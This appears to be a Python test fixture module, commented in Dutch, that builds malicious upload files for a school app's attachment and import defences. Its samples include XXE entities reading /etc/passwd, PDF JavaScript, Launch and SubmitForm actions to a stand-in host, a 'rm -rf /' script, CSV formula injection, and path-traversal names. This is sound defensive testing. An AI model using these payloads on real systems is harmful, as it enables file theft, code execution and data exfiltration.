"""Files that somebody might send to break something: each with a name, and what it is (quality.md §1).

WEG must be refused with a sentence. ONSCHADELIJK may come in, and then nothing of GIF is left in it. LIJSTEN go to
the import, which refuses them or reads them as text.
"""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, PngImagePlugin

from tests.factories_bijlage import beeld, pdf
from tests.factories_import import bomb, csv_of, xlsx_of

# Stands in everything that must not survive.
GIF = b"GiftigeKern"
N = pikepdf.Name
SCRIPT = b"<script>GiftigeKern()</script>"


def zip_of(**delen):
    uit = io.BytesIO()
    with zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as zak:
        for naam, inhoud in delen.items():
            zak.writestr(naam.replace("__", "/").replace("_xml", ".xml"), inhoud)
    return uit.getvalue()


def chunk(soort, inhoud):
    return struct.pack("!I", len(inhoud)) + soort + inhoud + struct.pack("!I", zlib.crc32(soort + inhoud))


def png_of(breed, hoog, idat=b"\x78\x9c\x63\x00", *meer):
    kop = chunk(b"IHDR", struct.pack("!IIBBBBB", breed, hoog, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + kop + b"".join(meer) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_flood():
    """Says it is 65,500 by 65,500 and holds almost nothing."""
    klein = bytearray(beeld())
    plek = klein.index(b"\xff\xc0")
    klein[plek + 5 : plek + 9] = struct.pack("!HH", 65500, 65500)
    return bytes(klein)


def action(**velden):
    return pikepdf.Dictionary(**velden)


def open_with(actie):
    return pdf(lambda p: setattr(p.Root, "OpenAction", p.make_indirect(actie)))


def on_page(naam, waarde):
    return pdf(lambda p: p.pages[0].obj.__setitem__(naam, waarde))


def annotation(**velden):
    noot = pikepdf.Dictionary(Type=N.Annot, Rect=[0, 0, 100, 100], **velden)
    return pdf(lambda p: p.pages[0].obj.__setitem__("/Annots", p.make_indirect(pikepdf.Array([noot]))))


def attach(p):
    p.attachments["GiftigeKern.exe"] = b"MZ" + GIF


def xfa(p):
    p.Root.AcroForm = pikepdf.Dictionary(XFA=p.make_stream(b"<xdp>GiftigeKern</xdp>"), Fields=[])


def form_script(p):
    veld = pikepdf.Dictionary(
        Type=N.Annot, Subtype=N.Widget, FT=N.Tx, T="naam", V="Ingevuld", DA="/Helv 10 Tf", Rect=[0, 0, 90, 20],
        AA=pikepdf.Dictionary(K=action(S=N.JavaScript, JS="GiftigeKern()")),
    )  # fmt: skip
    p.pages[0].obj.Annots = p.make_indirect(pikepdf.Array([p.make_indirect(veld)]))
    p.Root.AcroForm = pikepdf.Dictionary(Fields=p.pages[0].obj.Annots)


def metadata(p):
    with p.open_metadata() as meta:
        meta["dc:creator"] = ["GiftigeKern"]
    p.docinfo["/Author"] = "GiftigeKern"


def names_script(p):
    js = p.make_indirect(action(S=N.JavaScript, JS="GiftigeKern()"))
    p.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", js]))


def in_drawing(p):
    """A drawing inside a page that carries what a page may not."""
    tekening = p.make_stream(b"q Q")
    tekening.Type, tekening.Subtype, tekening.BBox = N.XObject, N.Form, [0, 0, 9, 9]
    tekening.PieceInfo = pikepdf.Dictionary(X=pikepdf.Dictionary(Private="GiftigeKern"))
    tekening.AF = p.make_indirect(action(Type=N.Filespec, F="GiftigeKern.exe"))
    tekening.Ref = pikepdf.Dictionary(F="GiftigeKern.pdf", Page=0)
    p.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=tekening))


def outside_stream(p):
    stroom = p.make_stream(b"q Q")
    stroom.F = pikepdf.Dictionary(FS=N.URL, F="http://kwaad.example/GiftigeKern")
    p.pages[0].obj.Contents = stroom


def page_loop():
    heel = pdf(bladen=2)
    return heel.replace(b"/Type /Page ", b"/Type /Pages").replace(b"/Count 2", b"/Count 99999999")


def bookmarks(p):
    with p.open_outline() as inhoud:
        inhoud.root.append(
            pikepdf.OutlineItem("GiftigeKern", action=action(S=N.URI, URI="http://kwaad.example"))
        )


def png_text():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "GiftigeKern", zip=True)
    info.add_itxt("XML:com.adobe.xmp", "GiftigeKern")
    return beeld("PNG", pnginfo=info)


def exif(vorm="JPEG"):
    gegevens = Image.Exif()
    gegevens[0x010F] = "GiftigeKern"
    gegevens.get_ifd(0x8825)[1] = "N"
    return beeld(vorm, exif=gegevens)


def apng():
    uit = io.BytesIO()
    lagen = [Image.new("RGB", (20, 20), kleur) for kleur in ("red", "green", "blue")]
    lagen[0].save(uit, "PNG", save_all=True, append_images=lagen[1:] * 100)
    return uit.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>GiftigeKern()</script></svg>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
MP4 = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + GIF

WEG = {
    # what isn't a document or a picture
    "niets.pdf": b"", "nullen.pdf": b"\0" * 5000, "tekst.pdf": b"Gewone tekst " + GIF, "pagina.pdf": b"<html>" + SCRIPT,
    "pagina.html": b"<html>" + SCRIPT, "plaatje.svg": SVG, "plaatje.png": SVG, "gegevens.pdf": XXE,
    "script.js": b"alert(1)", "programma.pdf": b"MZ\x90\0" + GIF * 99, "programma.jpg": b"\x7fELF\2\1\1" + GIF * 99,
    "opdracht.jpg": b"#!/bin/sh\nrm -rf /\n", "klas.png": b"\xca\xfe\xba\xbe\0\0\0\x34" + GIF,
    "lnk.pdf": b"L\0\0\0\x01\x14\2\0",
    "zak.zip": zip_of(x=GIF), "zak.pdf": zip_of(x=GIF), "brief.docx": zip_of(word__document_xml="<w/>"),
    "brief.pdf": zip_of(word__document_xml="<w/>", word__vbaProject="x"),
    "macro.docm": zip_of(word__vbaProject="x"),
    "lijst.xlsx": xlsx_of([["a", "b"], ["1", "2"]]), "oud.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + GIF,
    "oud.pdf": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + GIF, "brief.rtf": b"{\\rtf1 GiftigeKern}", "brief.pdf.exe": pdf(),
    "papier.ps": b"%!PS-Adobe-3.0\n(GiftigeKern) run", "papier.pdf": b"%!PS-Adobe-3.0\n(GiftigeKern) run",
    "post.eml": b"From: x\r\nContent-Type: text/html\r\n\r\n" + SCRIPT, "film.mp4": MP4, "film.jpg": MP4,
    "ander.gif": beeld("GIF", mode="P"), "ander.jpg": beeld("BMP"), "ander.tiff": beeld("TIFF"),
    "ander.webp": beeld("WEBP"), "ander.png": beeld("ICO"), "iphone.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + GIF,
    "iphone.jpg": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + GIF, "laag.png": b"8BPS\0\x01" + GIF,
    # not what the name says, or two things at once
    "foto.pdf": beeld(), "verslag.jpg": pdf(), "tekening.jpg": beeld("PNG"), "gif.jpg": b"GIF89a/*" + GIF + b"*/=1;",
    "voor.pdf": b"<html>" + SCRIPT + b"</html>" + pdf(), "later.pdf": b"\n" * 900 + pdf(),
    # too much
    "zee.png": png_of(60_000, 60_000), "muur.png": png_of(2**31 - 1, 2**31 - 1), "zee.jpg": jpeg_flood(),
    "leeg.png": png_of(0, 0), "boek.pdf": pdf(bladen=301),
    # broken
    "half.jpg": beeld(maat=(400, 400))[:900], "half.png": beeld("PNG", maat=(400, 400))[:200],
    "kapot.png": beeld("PNG").replace(b"IDAT", b"IDAX"), "kop.jpg": b"\xff\xd8\xff\xe0" + GIF,
    "kop.pdf": b"%PDF-1.7\n" + GIF, "half.pdf": pdf(bladen=3)[:200],
    # locked, or only for one program
    "slot.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "film.png": apng(), "half_slot.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="")), "xfa.pdf": pdf(xfa),
}  # fmt: skip

ONSCHADELIJK = {
    "kring.pdf": page_loop(),
    "exif.jpg": exif(), "exif.png": exif("PNG"), "woorden.png": png_text(),
    "staart.jpg": beeld() + SCRIPT,
    "staart.png": beeld("PNG") + SCRIPT, "zip.jpg": beeld() + zip_of(x=GIF),
    "php.jpg": beeld(comment=b"<?php GiftigeKern ?>"), "profiel.png": beeld("PNG", icc_profile=GIF * 9),
    "zip.pdf": pdf() + zip_of(x=GIF), "staart.pdf": pdf() + SCRIPT, "maker.pdf": pdf(metadata),
    "start.pdf": open_with(action(S=N.JavaScript, JS="GiftigeKern()")), "namen.pdf": pdf(names_script),
    "programma.pdf": open_with(action(S=N.Launch, F="GiftigeKern.exe")), "bijlage.pdf": pdf(attach),
    "elders.pdf": open_with(action(S=N.GoToR, F="GiftigeKern.pdf", D=[0, N.Fit])),
    "stuur.pdf": open_with(action(S=N.SubmitForm, F="http://kwaad.example/GiftigeKern")),
    "blad.pdf": on_page("/AA", pikepdf.Dictionary(O=action(S=N.JavaScript, JS="GiftigeKern()"))),
    "koppeling.pdf": annotation(Subtype=N.Link, A=action(S=N.URI, URI="http://kwaad.example/GiftigeKern")),
    "noot.pdf": annotation(Subtype=N.FileAttachment, FS=action(Type=N.Filespec, F="GiftigeKern.exe")),
    "film.pdf": annotation(Subtype=N.RichMedia, RichMediaContent=action(X="GiftigeKern")),
    "veld.pdf": pdf(form_script), "tekening.pdf": pdf(in_drawing), "buiten.pdf": pdf(outside_stream),
    "bladwijzer.pdf": pdf(bookmarks), "../../etc/GiftigeKern.pdf": pdf(), "GiftigeKern\u202efdp.jpg": beeld(),
}  # fmt: skip

GOED = {
    "a.pdf": pdf(), "b.PDF": pdf(bladen=12), "c.jpg": beeld(maat=(5000, 20)), "d.JPEG": beeld(mode="L"),
    "e.png": beeld("PNG", mode="RGBA"), "f.png": beeld("PNG", mode="P"), "g.jpg": beeld(mode="CMYK"),
    "zonder_einde": beeld(), "h.png": beeld("PNG", mode="1"), "i.png": beeld("PNG", mode="I;16"),
}  # fmt: skip

LACHEN = (
    b'<!DOCTYPE EDEX [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><EDEX><leerlingen>&b;</leerlingen></EDEX>'
)
DTD = b'<!DOCTYPE EDEX SYSTEM "http://kwaad.example/GiftigeKern.dtd"><EDEX><leerlingen/></EDEX>'
BESTAND = (
    b'<!DOCTYPE EDEX [<!ENTITY x SYSTEM "file:///etc/passwd">]><EDEX><leerlingen>&x;</leerlingen></EDEX>'
)


def xlsx_with(**delen):
    """A real workbook in which parts were replaced or added."""
    uit = io.BytesIO()
    nieuw = {naam.replace("__", "/").replace("_xml", ".xml"): inhoud for naam, inhoud in delen.items()}
    echt = zipfile.ZipFile(io.BytesIO(xlsx_of([["Voornaam", "Achternaam"], ["Mila", "Bo"]])))
    with zipfile.ZipFile(uit, "w") as zak:
        for deel in echt.infolist():
            if deel.filename not in nieuw:
                zak.writestr(deel.filename, echt.read(deel))
        for naam, inhoud in nieuw.items():
            zak.writestr(naam, inhoud)
    return uit.getvalue()


def deep(naam, diepte=50_000):
    return f"<EDEX>{f'<{naam}>' * diepte}{f'</{naam}>' * diepte}</EDEX>".encode()


BLAD_XXE = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet><sheetData/></worksheet>'
LIJSTEN = {
    "lachen": LACHEN, "dtd": DTD, "bestand": BESTAND, "svg": SVG, "pagina": b"<html>" + SCRIPT, "pdf": pdf(),
    "beeld": beeld("PNG"), "programma": b"MZ\x90\0" + GIF * 9, "oud": b"\xd0\xcf\x11\xe0" + GIF, "bom": bomb(),
    "zak": zip_of(x=GIF), "docx": zip_of(word__document_xml="<w/>"), "nul": b"a;b\n1;\0", "diep": deep("a"),
    "blad_xxe": xlsx_with(xl__worksheets__sheet1_xml=BLAD_XXE), "tekst_xxe": xlsx_with(xl__sharedStrings_xml=XXE),
    "boek_xxe": xlsx_with(xl__workbook_xml=XXE), "veel_delen": xlsx_with(**{f"x{n}": b"" for n in range(1100)}),
    "macro": xlsx_with(xl__vbaProject=GIF), "omhoog": xlsx_with(**{"..__..__..__tmp__GiftigeKern": b"x"}),
    "elders": xlsx_with(xl__externalLinks__externalLink1_xml=XXE),
    "breed": ";".join(f"k{n}" for n in range(999)).encode(),
    "formule": csv_of('1;"=HYPERLINK(""http://kwaad.example"")";;+cmd|calc;01-03-2023;@SUM(1)'),
    "lang": b"a;b\n" + b"x" * 100_000 + b";1", "aanhaling": b'a;b\n"' + b"x;" * 90_000,
    "utf7": b"a;b\n+ADw-script+AD4-;1",
    "rommel": bytes(range(128, 256)) * 99, "utf16": "a;b\n1;\ud7ff".encode("utf-16-be"),
}  # fmt: skip
